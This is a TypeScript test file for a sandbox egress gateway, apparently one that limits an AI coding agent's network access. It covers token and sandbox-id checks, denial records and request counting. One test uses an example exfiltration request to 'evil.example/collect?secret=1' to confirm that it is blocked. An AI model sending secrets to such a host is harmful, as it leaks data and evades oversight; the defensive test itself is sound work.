/** The one-machine gateway's entry point in the real Worker: authentication, whose request it is. */
import { exports } from 'cloudflare:workers';
import { beforeAll, expect, it } from 'vitest';
import { authorization, recordOf, sandboxIdOf, taskRequest } from './task.ts';

const token = 'the-gateway-of-the-tests';

async function handIn(headers: Record<string, string>, url = 'https://github.com/'): Promise<Response> {
  return await exports.EgressGateway.fetch(new Request(url, { headers }));
}

beforeAll(async () => {
  const record = recordOf('door');
  await record.open(taskRequest('door'));
  await record.learn({ authorization: authorization() });
  await record.enter('codex');
});

it.each([
  ['no token', {}],
  ['an empty token', { 'x-airlock-token': '' }],
  ['another token', { 'x-airlock-token': 'the-gateway-of-the-tesst' }],
  ['the beginning of the token', { 'x-airlock-token': token.slice(0, -1) }],
  ['more than the token', { 'x-airlock-token': `${token}x` }],
  ['the token in other case', { 'x-airlock-token': token.toUpperCase() }],
])('refuses %s without counting the request', async (_, headers) => {
  const before = (await recordOf('door').admitEgress())?.used.requests ?? Number.NaN;
  const answer = await handIn({ 'x-airlock-sandbox': sandboxIdOf('door'), ...headers });
  expect([answer.status, await answer.text()]).toEqual([403, '']);
  expect((await recordOf('door').admitEgress())?.used.requests).toBe(before + 1);
});

it.each([
  ['none', {}],
  ['empty', { 'x-airlock-sandbox': '' }],
  ['too short', { 'x-airlock-sandbox': 'ab12' }],
  ['too long', { 'x-airlock-sandbox': `${'a'.repeat(64)}b` }],
  ['in upper case', { 'x-airlock-sandbox': 'A'.repeat(64) }],
  ['not hexadecimal', { 'x-airlock-sandbox': 'g'.repeat(64) }],
  ['a list of two', { 'x-airlock-sandbox': `${'a'.repeat(64)}, ${'b'.repeat(64)}` }],
])('refuses a sandbox id that is %s', async (_, headers) => {
  const answer = await handIn({ 'x-airlock-token': token, ...headers });
  expect([answer.status, await answer.text()]).toEqual([400, '']);
});

it('denies requests of an unknown sandbox', async () => {
  const answer = await handIn({ 'x-airlock-token': token, 'x-airlock-sandbox': 'c'.repeat(64) });
  expect(answer.status).toBe(403);
  expect(await answer.json()).toMatchObject({ error: { code: 'grant.none' } });
});

it('decides on requests of a known sandbox and records the verdict', async () => {
  const answer = await handIn(
    { 'x-airlock-token': token, 'x-airlock-sandbox': sandboxIdOf('door') },
    'https://evil.example/collect?secret=1',
  );
  expect(answer.status).toBe(403);
  expect((await recordOf('door').view())?.receipt.denied).toEqual([
    expect.objectContaining({ host: 'evil.example', path: '/collect', count: 1 }),
  ]);
});

it('mints a token for an allowed request, and hides the error of an unreachable upstream', async () => {
  // These tests have no GitHub web host, so a request to it throws.
  const answer = await handIn(
    { 'x-airlock-token': token, 'x-airlock-sandbox': sandboxIdOf('door') },
    'https://github.com/acme/split.git/info/refs?service=git-upload-pack',
  );
  expect(answer.status).toBe(502);
  expect(await answer.json()).toEqual({
    error: {
      message: 'Airlock: github.com could not be reached',
      type: 'airlock_egress',
      code: 'upstream.unreachable',
      param: null,
    },
  });
  const receipt = (await recordOf('door').view())?.receipt;
  expect(receipt?.failed).toEqual([
    {
      host: 'github.com',
      fault: 'upstream',
      rule: 'upstream.unreachable',
      reason: 'github.com could not be reached',
      count: 1,
    },
  ]);
  expect(receipt?.denied.map(({ host }) => host)).not.toContain('github.com');
});

it('records requests that the gateway refused itself, and counts the rest of a flood', async () => {
  const total = async () => (await recordOf('door').view())?.receipt.deniedTotal ?? Number.NaN;
  const before = await total();
  const answer = await handIn(
    {
      'x-airlock-token': token,
      'x-airlock-sandbox': sandboxIdOf('door'),
      'x-airlock-refused': 'host.conflict',
      'x-airlock-more': '67',
    },
    'http://two-hosts.example/',
  );
  expect(answer.status).toBe(204);
  expect((await recordOf('door').view())?.receipt.denied).toContainEqual(
    expect.objectContaining({ host: 'two-hosts.example', rule: 'gateway.host.conflict', method: 'GET' }),
  );
  expect(await total()).toBe(before + 68);
});

it('marks its answers, and records an answer without the mark as our failure', async () => {
  const known = { 'x-airlock-token': token, 'x-airlock-sandbox': sandboxIdOf('door') };
  expect((await handIn(known)).headers.get('x-airlock-handled')).toBe('1');
  await handIn({ ...known, 'x-airlock-refused': 'unhandled' }, 'https://unhandled.example/');
  expect((await recordOf('door').view())?.receipt.failed).toContainEqual(
    expect.objectContaining({ host: 'unhandled.example', fault: 'ours', rule: 'gateway.unhandled' }),
  );
});

it.each([
  ['CONNECT', 'CONNECT'],
  ['MKCALENDAR', 'MKCALENDAR'],
  // An invalid method is recorded as the method of the report itself.
  ['GET /', 'GET'],
  ['A'.repeat(21), 'GET'],
])('records a report of the method %j as %s', async (named, method) => {
  const host = `method-${named.length}.example`;
  const before = (await recordOf('door').admitEgress())?.used.requests ?? Number.NaN;
  await handIn(
    {
      'x-airlock-token': token,
      'x-airlock-sandbox': sandboxIdOf('door'),
      'x-airlock-refused': 'connect',
      'x-airlock-method': named,
    },
    `https://${host}/`,
  );
  expect((await recordOf('door').view())?.receipt.denied).toContainEqual(
    expect.objectContaining({ host, rule: 'gateway.connect', method }),
  );
  // Reports count as requests, so that their number is limited.
  expect((await recordOf('door').admitEgress())?.used.requests).toBe(before + 2);
});

it('records no report of a sandbox without a grant', async () => {
  const record = recordOf('door-closed');
  await record.open(taskRequest('door-closed'));
  const answer = await handIn({
    'x-airlock-token': token,
    'x-airlock-sandbox': sandboxIdOf('door-closed'),
    'x-airlock-refused': 'connect',
  });
  expect(answer.status).toBe(204);
  expect((await record.view())?.receipt.denied).toEqual([]);
});
